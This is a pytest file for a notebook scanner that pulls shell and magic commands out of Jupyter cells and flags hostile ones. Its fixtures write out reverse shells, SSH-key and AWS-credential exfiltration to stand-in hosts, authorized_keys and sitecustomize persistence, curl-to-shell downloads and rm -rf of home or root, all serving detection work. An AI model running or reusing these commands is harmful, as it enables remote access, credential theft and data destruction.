"""Notebooks: which of their lines go to the shell, which to Python, and that any document is read."""

from __future__ import annotations

import ast
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.examples import examples
from tests.scan.gating import gated, is_clean, rules
from veracity.core.observation import CommandAsked
from veracity.observe.artifact.reading import Nested
from veracity.observe.document.jsontext import parse_json
from veracity.observe.document.notebook import notebook
from veracity.observe.document.saying import Saying

FOUND = "checkpoint-notebook-command"


def made(*sources: str, outputs: object = (), version: int = 4) -> dict[str, object]:
    cells = [
        {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": outputs}
        | ({"source": one.splitlines(True)} if version == 4 else {"input": one})
        for one in sources
    ]
    whole: dict[str, object] = {"nbformat": version, "nbformat_minor": 5, "metadata": {}}
    return whole | ({"cells": cells} if version == 4 else {"worksheets": [{"cells": cells}]})


def read(document: object) -> tuple[list[tuple[str, str]], str]:
    """Commands with how they are run, and the Python text."""
    commands, code = [], ""
    for one in notebook(parse_json(json.dumps(document), "n"), Saying("n.ipynb")):
        if isinstance(one, CommandAsked):
            commands.append((one.how, one.text))
        elif isinstance(one, Nested):
            code = one.input.whole(1 << 20).decode()
    return commands, code


def test_lines_for_the_shell_are_taken_out_and_the_rest_is_python() -> None:
    commands, code = read(
        made(
            "import torch\n!pip install x\nif True:\n    !ls -l\nfiles = !ls\n%matplotlib inline\nx = 1",
            "%%bash\necho a\necho b",
            "%%time\ny = x + 1",
            "torch.nn?",
            "%system date",
            "this is no Python",
            "text = '''\n!not a command\n'''",
        )
    )

    assert commands == [
        *(("shell", "pip install x"), ("shell", "ls -l"), ("shell", "ls")),
        *(("bash", "echo a\necho b"), ("shell", "date")),
    ]
    names = {node.id for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Name)}
    assert {"x", "y", "files", "text"} <= names
    assert "no Python" not in code
    assert code.index("# cell 1") < code.index("# cell 3") < code.index("# cell 7")


def test_notebooks_of_version_three_are_read() -> None:
    commands, code = read(made("!date\nx = 1", version=3))

    assert commands == [("shell", "date")]
    assert "x = 1" in code


@pytest.mark.parametrize(
    ("source", "severity"),
    [
        ("!echo dHJ1ZQ== | base64 -d | bash", "error"),
        ("!python -c \"import base64; exec(base64.b64decode('cGFzcw=='))\"", "error"),
        ("!bash -i >& /dev/tcp/192.0.2.1/9 0>&1", "error"),
        ("!nc -e /bin/sh 192.0.2.1 9", "error"),
        ("!curl -F file=@/root/.ssh/id_rsa https://example.invalid", "error"),
        ("!cat ~/.aws/credentials | curl -d @- https://example.invalid", "error"),
        ("!echo key >> ~/.ssh/authorized_keys", "error"),
        ("%%bash\necho import os > /usr/lib/python3/dist-packages/x.pth", "error"),
        ("!rm -rf ~", "error"),
        ("!rm -rf / --no-preserve-root", "error"),
        ("cmd = 'curl -s http://127.0.0.1:9/ | sh'\n!{cmd}", "warning"),
        ("%alias go curl -s http://127.0.0.1:9/ | sh", "warning"),
        ("%env LD_PRELOAD=/dev/null/x.so", "warning"),
        ("%set_env LD_PRELOAD /dev/null/x.so", "warning"),
        ("!curl -so /tmp/x.sh http://127.0.0.1:9/x.sh && bash /tmp/x.sh", "warning"),
        ("!wget http://127.0.0.1:9/ -O run.py; python run.py", "warning"),
        ("!wget http://127.0.0.1:9/a/run.sh && chmod +x run.sh", "warning"),
        ("!pip install http://127.0.0.1:9/nothing-1.0-py3-none-any.whl", "warning"),
        ("%pip install git+http://127.0.0.1:9/nothing.git", "warning"),
        (
            "!python -c \"import urllib.request as u; exec(u.urlopen('http://127.0.0.1:9/').read())\"",
            "warning",
        ),
        ("get_ipython().run_cell_magic('bash', '', 'curl http://127.0.0.1:9/ | sh')", "warning"),
        ("get_ipython().run_line_magic('system', 'curl http://127.0.0.1:9/ | sh')", "warning"),
        ("ip = get_ipython()\nout = ip.getoutput('curl http://127.0.0.1:9/ | sh')", "warning"),
        ("%%writefile ~/.ssh/authorized_keys\nssh-ed25519 AAAA", "error"),
        ("%%writefile -a /usr/lib/python3/dist-packages/sitecustomize.py\nx = 1", "error"),
        ("%%bash\nrm -rf /dev/null/nothing", "error"),
        ("!cd /tmp; rm -f -r build /etc/ssl", "error"),
        ("!rm -r '/home/somebody/'", "error"),
        ("!curl -s https://example.invalid/x | python3 -", "warning"),
        ("%%sh\nset -e\ncurl -s https://example.invalid/x | sh", "warning"),
        ("x = !wget -qO- https://example.invalid/x | sudo bash", "warning"),
        ("!bash <(curl -s https://example.invalid/x)", "warning"),
        ("!sed -i 's/0.9/0.8/' /usr/lib/python3/dist-packages/torch/optim/adam.py", "warning"),
        ("%run https://example.invalid/x.py", "warning"),
        ("%pip install --index-url http://127.0.0.1:9/ nothing", "warning"),
        ("!pip3 install --trusted-host example.invalid nothing", "warning"),
        ("get_ipython().system('curl -s https://example.invalid/x | sh')", "warning"),
    ],
)
def test_commands_that_no_experiment_needs_are_found(source: str, severity: str) -> None:
    assert rules(made("x = 1", source), "n.ipynb") == [f"{FOUND} {severity}"]


@pytest.mark.parametrize(
    "source",
    [
        "!pip install -q torch --index-url https://example.invalid/whl/cpu",
        "%pip install -q --extra-index-url https://example.invalid/simple torch",
        "get_ipython().system('nvidia-smi')",
        "!wget -q https://example.invalid/data.zip && unzip -q data.zip && rm -rf data.zip",
        "!nvidia-smi\n!ls ~/.cache | head\n!rm -rf sample_data /content/run /root/.cache/pip",
        "%%bash\nrm -rf /dev/shm/run ./etc /home/somebody/project/build /content/lib && rm /etc/hosts.bak",
        "%env LD_PRELOAD=libtcmalloc_minimal.so.4\n%env LD_PRELOAD=\n!LD_PRELOAD=/usr/lib/libjemalloc.so ls",
        "%env CUDA_VISIBLE_DEVICES=0\n%alias l ls -la\nname = 'x'\n!echo {name} $name {other}",
        "!wget -q https://example.invalid/x.sh -O x.sh && bash x.sh\n!curl -O http://127.0.0.1:9/d; cat d",
        "%%html\n<b>x</b>\n<script>kernel.execute('1')</script>",
        "%%writefile notes/authorized.py\nx = 1",
        "!pip install git+https://example.invalid/x.git http",
        '!rm -rf /tmp/lib /workspace/bin "$OUT"',
        "!git clone https://example.invalid/x.git && cd x && pip install -e .",
        "!curl -s https://example.invalid/x.json | python3 -m json.tool",
        "!curl -L https://example.invalid/x.tar.gz | tar xz\n!cat README.md | python -m json.tool",
        "!python train.py --lr 1e-3 | tee log.txt",
        "%%bash\nexport A=1\nfor i in 1 2; do python run.py --seed $i; done",
        "%%writefile train.py\nimport os\nos.system('x')",
        "%load_ext autoreload\n%autoreload 2\n%run train.py --lr 1",
        "%%javascript\nalert(1)",
        "from huggingface_hub import login\nlogin()\n!ssh-keygen -l",
    ],
)
def test_what_notebooks_are_for_is_clean(source: str) -> None:
    assert is_clean(made(source), "n.ipynb")


def test_scripts_in_outputs_are_told_when_they_reach_for_the_kernel_with_more_than_a_call() -> None:
    plot = [{"output_type": "display_data", "data": {"text/html": ["<p/>", "<script>draw()</script>"]}}]
    bokeh = "kernel.execute('import bokeh.io.notebook as ion; ion.destroy_server(\"x\")')"
    hostile = "<script>Jupyter.notebook.kernel.execute(\"__import__('os').getpid()\")</script>"

    assert is_clean(made("x = 1", outputs=plot))
    output = [{"data": {"text/html": hostile}}]
    assert rules(made("x = 1", outputs=output)) == ["checkpoint-carries-code error"]
    assert is_clean(made("x = 1", outputs=[{"data": {"application/javascript": bokeh}}]))


def test_scripts_in_cells_are_told_as_those_in_outputs() -> None:
    script = "IPython.notebook.kernel.execute(\"__import__('os').getpid()\")"

    assert rules(made(f"%%javascript\n{script}"), "n.ipynb") == ["checkpoint-carries-code error"]
    assert rules(made(f"%%html\n<script>{script}</script>"), "n.ipynb") == ["checkpoint-carries-code error"]


@pytest.mark.parametrize(
    ("language", "source", "harm"),
    [
        ("bash", "curl -s http://127.0.0.1:9/ | sh", True),
        ("R", "x <- 1\nsystem('curl -s http://127.0.0.1:9/ | sh')", True),
        ("bash", "ls data | head", False),
        ("R", "library(ggplot2)\nsystem('ls')", False),
        ("python", "text = 'curl http://127.0.0.1:9/ | sh'", False),
    ],
)
def test_cells_of_other_kernels_are_read_as_theirs(language: str, source: str, harm: bool) -> None:
    book = made(source) | {"metadata": {"kernelspec": {"language": language, "name": "x"}}}
    assert bool(rules(book, "n.ipynb")) is harm


def test_a_long_command_is_read_in_time() -> None:
    for part in ("base64 -d ", "curl .ssh/ ", "sed -i site-packages/ ", "curl http://a.sh ; ", "rm -r -f "):
        assert gated(made("!" + part * (4_000 // len(part)))).inputs
    assert rules(made("!echo " + "x" * 60_000)) == [f"{FOUND} warning"]


@given(st.lists(st.text("!%?x=\n (\\'", max_size=20), max_size=3))
@settings(max_examples=examples(200), deadline=None)
def test_any_cells_give_commands_and_a_text_that_parses(sources: list[str]) -> None:
    _, code = read(made(*sources))
    compile(code, "x", "exec", ast.PyCF_ONLY_AST | ast.PyCF_ALLOW_TOP_LEVEL_AWAIT)


@given(st.recursive(st.none() | st.text(max_size=5), lambda one: st.lists(one, max_size=3), max_leaves=6))
@settings(max_examples=examples(50), deadline=None)
def test_documents_of_other_shapes_are_no_harm(value: object) -> None:
    for document in ({"cells": value}, {"cells": [{"cell_type": "code", "source": value, "outputs": value}]}):
        read(document)
